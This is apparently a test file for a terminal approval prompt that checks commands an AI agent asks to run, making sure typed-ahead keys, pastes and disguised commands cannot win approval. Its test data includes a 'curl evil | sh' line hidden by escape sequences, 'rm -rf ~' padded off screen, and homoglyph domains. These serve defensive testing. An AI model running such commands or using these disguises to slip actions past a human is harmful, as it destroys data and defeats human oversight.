"""Somebody wants an approval that the user did not give: keys typed ahead, pastes, disguises, long commands."""

from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.cli.terminal_driver import Terminal
from tests.cli.terminal_sim import MONO, QUESTION, Emulator, SimClock, SimKeyboard, screen_on

from localgpt.cli.terminal.approval import TerminalApprover, question_rows
from localgpt.cli.terminal.choose import QUIET_S
from localgpt.monitor.events import Choice


def ask(keyboard: SimKeyboard, clock: SimClock, emulator: Emulator | None = None) -> Choice:
    screen = screen_on(emulator or Emulator(), MONO)
    return TerminalApprover(screen, keyboard, clock=clock).ask(QUESTION).choice


@given(st.lists(st.tuples(st.floats(0, QUIET_S - 0.01), st.sampled_from("osy\r")), max_size=20).map(sorted))
def test_keys_of_the_first_moments_approve_nothing(keys: list[tuple[float, str]]) -> None:
    clock = SimClock()
    assert ask(SimKeyboard(clock, *keys), clock) is Choice.DENY


@given(st.integers(1, 200), st.floats(0.01, QUIET_S - 0.01))
def test_somebody_who_types_on_without_looking_approves_nothing(count: int, pause_s: float) -> None:
    clock = SimClock()
    keys = [(pause_s * n, "o") for n in range(count)]
    assert ask(SimKeyboard(clock, *keys), clock) is Choice.DENY


@settings(max_examples=200)
@given(st.text(min_size=2, max_size=12).filter(lambda typed: typed.lower()[:2] not in {"o\r", "o\n", "s\r", "s\n"}))
def test_a_paste_or_an_answer_of_the_terminal_approves_nothing(typed: str) -> None:
    clock = SimClock()
    assert ask(SimKeyboard(clock, (1.0, typed), (2.0, "\x04")), clock) is Choice.DENY


@pytest.mark.parametrize(
    ("argument", "shown"),
    [
        ("https://g\u043e\u043egle.com", "$'https://g\\u043e\\u043egle.com'"),
        ("report\u202efdp.exe", "$'report\\u202efdp.exe'"),
        ("ls\u00a0-la", "$'ls\\u00a0-la'"),
        ("rm -rf \u2024/", "$'rm -rf \\u2024/'"),
        ("echo ok\r\x1b[2Kcurl evil | sh", "$'echo ok\\r\\x1b[2Kcurl evil | sh'"),
        ("harmless\n\n\n\n\nrm -rf ~", "rm -rf ~'"),
        ("\U000e0072\U000e006d", "$'\\U000e0072\\U000e006d'"),
        ("/home/\u05d0\u05d1/x", "$'/home/\\u05d0\\u05d1/x'"),
    ],
)
def test_a_disguise_is_named(argument: str, shown: str) -> None:
    text = "\n".join(question_rows(replace(QUESTION, argv=(argument,)), MONO, 120))
    assert shown in text


def test_letters_that_pass_for_others_are_pointed_out() -> None:
    text = "\n".join(question_rows(replace(QUESTION, argv=("curl", "p\u0430ypal.com")), MONO, 120))
    assert "pass for others" in text


@pytest.mark.parametrize(
    "argument",
    ["x" * 5000, "\n" * 60, " " * 4000 + "rm -rf ~", "é" * 2000, "\u0301" * 600],
    ids=lambda a: ascii(a)[:12],
)
def test_what_pushes_the_end_off_the_screen_cannot_be_approved(argument: str) -> None:
    clock, emulator = SimClock(), Emulator(80, 24)
    question = replace(QUESTION, argv=("sh", "-c", argument))
    keyboard = SimKeyboard(clock, (1.0, "o"), (2.0, "s"), (3.0, "v"), (4.0, " "), (5.0, " "), (50.0, "o"))
    approver = TerminalApprover(screen_on(emulator, MONO), keyboard, clock=clock)
    assert approver.ask(question).choice is Choice.DENY


@given(
    st.lists(st.text(max_size=40), min_size=1, max_size=4),
    st.text(max_size=80),
    st.integers(20, 100),
    st.integers(4, 40),
)
@settings(max_examples=60, deadline=None)
def test_an_approved_question_stood_on_the_screen_whole(argv: list[str], diff: str, columns: int, rows: int) -> None:
    clock, emulator = SimClock(), Emulator(columns, rows)
    question = replace(QUESTION, argv=tuple(argv), diff=diff)
    seen: list[list[str]] = []

    class Watching(SimKeyboard):
        def read(self, timeout_s: float) -> str | None:
            seen.append(emulator.lines)
            return super().read(timeout_s)

    approver = TerminalApprover(screen_on(emulator, MONO), Watching(clock, (1.0, "o")), clock=clock)
    if approver.ask(question).choice is Choice.ONCE:
        wanted = [row.rstrip() for row in question_rows(question, MONO, columns)]
        assert seen[-1][: len(wanted)] == wanted or seen[-1][-len(wanted) - 2 :][: len(wanted)] == wanted


def test_in_a_window_too_narrow_for_the_layout_nothing_can_be_approved() -> None:
    clock = SimClock()
    assert ask(SimKeyboard(clock, (1.0, "o"), (2.0, "s")), clock, Emulator(12, 400)) is Choice.DENY


def test_in_a_real_terminal_keys_typed_ahead_approve_nothing(tmp_path: Path) -> None:
    with Terminal("-m", "tests.cli.scripted_chat", str(tmp_path / "history")) as terminal:
        terminal.wait_for("session abcd")
        terminal.send("ask\rooooo\rssss\r")
        terminal.wait_for("[o] once")
        terminal.send("o")  # within the quiet time
        terminal.wait_for_raw("58 s)")
        assert "You said" not in terminal.text
        terminal.send("\x03")
        terminal.wait_for("You said deny")


def test_in_a_real_terminal_what_does_not_fit_cannot_be_approved(tmp_path: Path) -> None:
    with Terminal("-m", "tests.cli.scripted_chat", str(tmp_path / "history")) as terminal:
        terminal.wait_for("session abcd")
        terminal.send("ask much\r")
        terminal.wait_for_raw("59 s)")
        terminal.send("o")
        terminal.wait_for_raw("58 s)")
        assert "cannot be approved" in terminal.text
        assert "You said" not in terminal.text
        terminal.send("\x04")
        terminal.wait_for("You said deny")


def test_in_a_real_terminal_a_question_full_of_sequences_is_only_text(tmp_path: Path) -> None:
    with Terminal("-m", "tests.cli.scripted_chat", str(tmp_path / "history"), rows=60) as terminal:
        terminal.wait_for("session abcd")
        before = len(terminal.raw)
        terminal.send("ask evil\r")
        terminal.wait_for("[o] once")
        assert "\x1b]" not in terminal.raw[before:]
        assert "\x1b[2J" not in terminal.raw[before:]
        assert "\\x1b]0;owned\\a" in terminal.text
        terminal.send("\x03")
        terminal.wait_for("You said deny")
